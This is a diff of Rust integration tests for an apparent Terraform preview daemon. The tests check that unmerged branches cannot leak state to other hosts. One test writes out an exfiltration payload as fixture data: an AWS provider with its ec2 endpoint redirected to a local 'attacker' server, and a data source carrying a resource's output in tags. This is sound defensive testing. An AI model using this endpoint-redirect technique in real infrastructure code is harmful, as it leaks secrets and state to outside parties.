@@ -19,6 +19,22 @@ fn config_error_for(fixture: &Fixture, env: &str, commit: &str) -> Value {
     of_commit(fixture).unwrap()
 }
 
+/// A server on the daemon's loopback that an attack tries to reach; `accept` tells if it did.
+fn attacker() -> (std::net::TcpListener, std::net::SocketAddr) {
+    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    attacker.set_nonblocking(true).unwrap();
+    let address = attacker.local_addr().unwrap();
+    (attacker, address)
+}
+
+/// The default fixture, once prod has applied its first commit.
+fn prod_applied() -> Fixture {
+    let fixture = Fixture::new("");
+    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
+    fixture.wait_for("prod applied", |f| f.applied("prod", &first));
+    fixture
+}
+
 /// A branch named `refs/remotes/origin/main` is an ordinary, untrusted branch: its commit is
 /// only previewed, never planned or applied to prod as if it were `main`.
 #[test]
@@ -117,12 +133,8 @@ fn a_deeply_nested_file_on_a_branch_does_not_take_the_daemon_down() {
 /// preview is refused before terraform runs, and the "attacker" never hears from it.
 #[test]
 fn a_preview_cannot_send_state_out_through_remote_state() {
-    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    attacker.set_nonblocking(true).unwrap();
-    let address = attacker.local_addr().unwrap();
-    let fixture = Fixture::new("");
-    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
-    fixture.wait_for("prod applied", |f| f.applied("prod", &first));
+    let (attacker, address) = attacker();
+    let fixture = prod_applied();
 
     fixture.clone.git(&["checkout", "-q", "-b", "exfiltrate"]);
     fixture.clone.append(
@@ -141,6 +153,54 @@ fn a_preview_cannot_send_state_out_through_remote_state() {
             .contains("data source \"terraform_remote_state\" is refused for environment prod"),
         "{alert}"
     );
+    assert!(
+        attacker.accept().is_err(),
+        "the attacker's server was reached"
+    );
+}
+
+/// A preview's provider runs code of an unmerged commit: it reaches the AWS endpoint (here
+/// the emulator) and nothing else — not even a server on the daemon's own loopback.
+#[test]
+fn a_previews_provider_reaches_aws_and_no_other_host() {
+    let (attacker, address) = attacker();
+    let fixture = prod_applied();
+    let finished = |f: &Fixture, commit: &str| {
+        f.runs("prod").into_iter().find(|run| {
+            run["commit"] == commit && run["kind"] == "preview" && !run["result"].is_null()
+        })
+    };
+
+    fixture.clone.git(&["checkout", "-q", "-b", "reads-aws"]);
+    fixture.clone.append(
+        "modules/prod-app/main.tf",
+        "\nterraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n  }\n}\n\
+         provider \"aws\" {\n  region = \"us-east-1\"\n  access_key = \"preview\"\n  secret_key = \"preview\"\n  skip_credentials_validation = true\n  skip_requesting_account_id = true\n}\n\
+         data \"aws_vpcs\" \"all\" {}\n",
+    );
+    let reads = fixture.clone.commit_all("a preview that reads AWS");
+    fixture.push("reads-aws");
+    fixture.wait_for("the AWS preview finished", |f| {
+        finished(f, &reads).is_some()
+    });
+    let run = finished(&fixture, &reads).unwrap();
+    assert_eq!(run["result"], "no_changes", "{run:#}");
+
+    fixture.clone.git(&["checkout", "-q", "-b", "exfiltrate"]);
+    fixture.clone.append(
+        "modules/prod-app/main.tf",
+        &format!(
+            "\nprovider \"aws\" {{\n  alias = \"out\"\n  region = \"us-east-1\"\n  access_key = \"preview\"\n  secret_key = \"preview\"\n  skip_credentials_validation = true\n  skip_requesting_account_id = true\n  max_retries = 1\n  endpoints {{\n    ec2 = \"http://{address}\"\n  }}\n}}\n\
+             data \"aws_vpcs\" \"out\" {{\n  provider = aws.out\n  tags = {{ output = terraform_data.app.output }}\n}}\n"
+        ),
+    );
+    let exfiltrate = fixture.clone.commit_all("a preview that calls out");
+    fixture.push("exfiltrate");
+    fixture.wait_for("the exfiltrating preview finished", |f| {
+        finished(f, &exfiltrate).is_some()
+    });
+    let run = finished(&fixture, &exfiltrate).unwrap();
+    assert_eq!(run["result"], "failed", "{run:#}");
     assert!(
         attacker.accept().is_err(),
         "the attacker's server was reached"
